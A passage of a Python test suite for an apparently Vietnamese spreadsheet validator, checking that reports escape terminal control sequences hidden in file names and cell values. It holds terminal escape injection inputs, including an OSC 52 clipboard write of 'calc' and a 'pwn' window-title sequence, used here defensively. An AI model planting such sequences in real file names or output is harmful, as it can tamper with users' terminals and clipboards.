    assert attachments == [] and f"- Tệp “NSVH.xlsx”: {reason}." in body
    assert sum(p.suffix == ".eml" for p in written) == 24 and sorted(p.name for p in written if p.suffix == ".xlsx") \
        == ["CHEO_danh_dau.xlsx", "KICH_danh_dau.xlsx"]


# ---------------------------------------------------------------------------------------------
# Family 9: the terminal


SEQUENCES = {
    "clear screen": "\x1b[2J\x1b[H",
    "OSC 52 clipboard": "\x1b]52;c;Y2FsYw==\x07",
    "OSC 0 title": "\x1b]0;ntvt da xong\x07",
    "8-bit CSI": "\x9b2J",
    "carriage return": "\rĐã kiểm tra: 0 lỗi",
    "NUL and DEL": "\x00\x7f",
}


@pytest.mark.parametrize("case", list(SEQUENCES))
def test_terminal_output_escapes_control_characters(case, base, rules, tmp_path):
    """A file name and a cell value carrying terminal sequences are printed escaped, in every renderer."""
    seq = SEQUENCES[case]
    # Excel stores C0 controls in cell text escaped (_x001b_); DEL and C1 are plain XML characters.
    stored = "".join(f"_x{ord(ch):04x}_" if ord(ch) < 32 else f"&#{ord(ch)};" if 127 <= ord(ch) < 160 else ch
                     for ch in seq)
    in_name = seq.replace("\x00", "")  # the one character a file name cannot hold
    cell = f'<c r="D5" t="inlineStr"><is><t>{stored}</t></is></c>'
    book = h.set_cells(base, tmp_path / f"don_vi{in_name}.xlsx", {"D5": cell})
    empty = tmp_path / f"rong{in_name}.xlsx"
    empty.write_bytes(b"")
    report = validate_files([book, empty], rules, as_of=AS_OF).report()
    assert seq in [f.value for f in report.findings if f.cell == "D5"]
    rendered = [findings_table(report), summary_line(report), copy_failures([(str(empty), "tệp rỗng (0 byte)")])]
    for text in rendered:
        assert not CONTROL.search(text), repr(text)
    assert f"== {printable(one_line(book))}  [" in rendered[0]
    assert f"== {printable(one_line(empty))}  [KHÔNG ĐỌC ĐƯỢC: tệp rỗng (0 byte)]" in rendered[0]


def test_consolidation_summary_escapes_rejected_names(tmp_path, make_book, rules):
    """Rejected files whose names carry ESC/OSC sequences are listed escaped, one per line."""
    inbox = tmp_path / "inbox"
    make_book([good_row()], name="cheo.xlsx", directory=inbox)
    (inbox / "\x1b]0;pwn\x07.xlsx").write_bytes(b"")
    (inbox / "a\nb.xlsx").write_bytes(b"")
    result = consolidate(inbox, None, rules, as_of=dt.date(2023, 5, 31))
    text = consolidation_summary(result)
    assert not CONTROL.search(text)
    assert "  - \\x1b]0;pwn\\x07.xlsx: tệp rỗng (0 byte)" in text
    assert re.search(r"\n  - a\\(n|x0a)b\.xlsx: tệp rỗng \(0 byte\)", text)  # one line, however the inbox spells it
